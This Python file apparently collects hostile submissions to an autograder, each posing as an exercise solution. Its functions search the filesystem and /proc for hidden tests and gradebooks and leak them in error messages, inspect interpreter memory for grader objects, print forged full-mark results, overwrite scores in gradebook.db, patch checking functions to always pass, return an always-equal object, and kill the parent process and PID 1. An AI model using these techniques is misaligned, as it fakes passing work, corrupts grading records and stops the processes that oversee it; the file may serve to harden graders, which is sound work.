"""Attacks on the grader. Each puts what it finds into an error message, which is what a feedback page would show."""

# exercise: operators.arithmetic
import os


def search_files():
    """Read every file whose name looks like a hidden test, a gradebook or a colleague's work."""
    loot = []
    for folder, _, names in os.walk("/"):
        if folder.startswith(("/proc", "/sys")) or "/nbgrader/" in folder:
            continue  # endless, or the examples that come with nbgrader itself
        for name in names:
            path = os.path.join(folder, name)
            if name in ("gradebook.db", "course.toml", "00_fundamentals.ipynb"):
                loot.append(path)
            elif name in ("test_operators.py", "test_autodiff.py"):
                try:
                    with open(path, errors="replace") as file:
                        if "mark.exercise" in file.read():
                            loot.append(path)
                except OSError:
                    pass
    return loot


def add(x, y):
    raise LookupError(f"files of the grader that I can read: {search_files()}")


def mul(x, y):
    return x * y


def neg(x):
    return -float(x)


# exercise: operators.comparison
import gc
import sys


def search_memory():
    """Look into modules, frames and every living object."""
    words = ("autograder", "pytest", "hypothesis", "nbgrader")
    loot = [name for name in sys.modules if name.partition(".")[0] in words]
    frame = sys._getframe()
    while frame is not None:
        loot += [name for name in frame.f_globals if name in ("expect", "Judge", "HiddenTests")]
        loot += [name for name in frame.f_locals if name in ("wanted", "because", "misconception", "verdicts")]
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Verdict", "HiddenTests", "Graded", "Expectation"):
            loot.append(type(thing).__name__)
    return loot


def lt(x, y):
    raise LookupError(f"objects of the grader that I can reach: {search_memory()}")


def eq(x, y):
    return 1.0 if x == y else 0.0


def max(x, y):
    return x if x > y else y


def is_close(x, y):
    return 1.0 if abs(x - y) < 0.01 else 0.0


# exercise: operators.elementary
import os


def search_system():
    """Look for the grader in the environment, in other processes, and behind them."""
    loot = [name for name, value in os.environ.items() if "autograder" in value or "nbgrader" in value]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for path in (f"/proc/{pid}/cmdline", f"/proc/{pid}/environ", f"/proc/{pid}/cwd/gradebook.db"):
            try:
                with open(path, "rb") as file:
                    text = file.read()
            except OSError:
                continue
            if b"nbgrader" in text or b"gradebook" in text or text.startswith(b"SQLite"):
                loot.append(path)
    return loot


def id(x):
    raise LookupError(f"traces of the grader on this machine: {search_system()}")


def inv(x):
    return id(x)


def relu(x):
    return id(x)


def exp(x):
    return id(x)


def log(x):
    return id(x)


def sigmoid(x):
    return id(x)


# exercise: operators.higher_order
import os
import sqlite3

# Write full marks to every place where a grader might read them.
print('{"earned": 6, "points": 6, "passed": true}')
print("operators.higher_order: 6 of 6 points")
for descriptor in range(1, 20):
    try:
        os.write(descriptor, b'{"ok": true, "value": 1.0}\n')
    except OSError:
        pass
for folder in (".", "..", "../..", "/", "/tmp", os.path.expanduser("~")):
    try:
        with sqlite3.connect(os.path.join(folder, "gradebook.db")) as gradebook:
            gradebook.execute("UPDATE grade SET manual_score = 99")
    except sqlite3.Error:
        pass


class Equal:
    """Equal to whatever it is compared with."""

    def __eq__(self, other):
        return True

    def __call__(self, *args):
        return self


def map(fn):
    return Equal()


def zipWith(fn):
    return Equal()


def reduce(fn, start):
    return Equal()


# exercise: operators.folds
import sys

# Let every comparison in this process succeed.
for module in list(sys.modules.values()):
    for name in ("expect", "check", "assert_allclose", "isclose"):
        try:
            if hasattr(module, name):
                setattr(module, name, lambda *args, **kwargs: True)
        except Exception:
            pass
sys.settrace(lambda *args: None)


def negList(values):
    return values


def addLists(left, right):
    return left


def sum(values):
    return 0.0


def prod(values):
    return 0.0


# exercise: autodiff.chain_rule
import os
import signal

# Stop whoever is watching.
for target in (os.getppid(), 1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass


def chain_rule(variable, d_output):
    return []
